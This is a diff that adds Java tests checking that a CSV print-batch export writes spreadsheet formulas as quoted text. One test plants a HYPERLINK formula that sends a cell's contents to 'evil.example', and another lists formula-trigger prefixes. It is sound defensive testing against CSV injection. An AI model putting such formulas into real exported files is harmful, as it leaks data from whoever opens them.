@@ -16,6 +16,10 @@ import java.util.Optional;
 import org.camunda.bpm.engine.impl.util.ClockUtil;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+import org.apache.commons.csv.CSVFormat;
+import org.springframework.jdbc.core.simple.JdbcClient;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.boot.test.web.server.LocalServerPort;
 import org.springframework.transaction.support.TransactionTemplate;
@@ -29,6 +33,7 @@ class OutboxTest {
   @Autowired ContactLog contactLog;
   @Autowired TransactionTemplate transaction;
   @Autowired TestData testData;
+  @Autowired JdbcClient jdbc;
   @LocalServerPort int port;
 
   @AfterEach
@@ -99,6 +104,40 @@ class OutboxTest {
     assertThat(batch.status()).isEqualTo(200);
     assertThat(batch.contentType()).startsWith("text/csv");
     assertThat(batch.body()).contains("Marc Lefèvre", "12 rue des Lilas");
+  }
+
+  @Test
+  void printBatchWritesFormulasAsText() throws Exception {
+    Customer customer = testData.customer().preferring(Channel.LETTER).address("@SUM(1+1)\n75011 Paris").create();
+    String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A2,\"Click me\")";
+    // however the name got in (an old import, a database fix): it must reach the print shop as text
+    jdbc.sql("update drivecare.customer set name = ? where id = ?").params(formula, customer.id()).update();
+    long id = request(customer, TestData.unique("key"), null).orElseThrow();
+    dispatcher.dispatchDue();
+    String date = outbox.find(id).orElseThrow().printBatch();
+
+    var batch = Api.at(port).basic("test-admin", "test-admin-secret").get("/api/outbox/print-batches/" + date);
+    assertThat(batch.status()).isEqualTo(200);
+    var records = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
+        .parse(new java.io.StringReader(batch.body())).getRecords();
+    var letter = records.stream().filter(r -> r.get("notification").equals(String.valueOf(id))).findFirst().orElseThrow();
+    assertThat(letter.get("recipient")).startsWith("'" + formula);
+    assertThat(letter.get("recipient")).contains("@SUM(1+1)");
+    assertThat(records).allSatisfy(r -> r.stream().forEach(cell ->
+        assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
+            .doesNotStartWith("\t").doesNotStartWith("\r")));
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"})
+  void cellsThatASpreadsheetWouldEvaluateAreWrittenAsText(String cell) {
+    assertThat(OutboxController.spreadsheetSafe(cell)).isEqualTo("'" + cell);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"Marc Lefèvre", "12 rue des Lilas", "'quoted", "a=b", ""})
+  void ordinaryCellsAreWrittenAsTheyAre(String cell) {
+    assertThat(OutboxController.spreadsheetSafe(cell)).isEqualTo(cell);
   }
 
   @Test
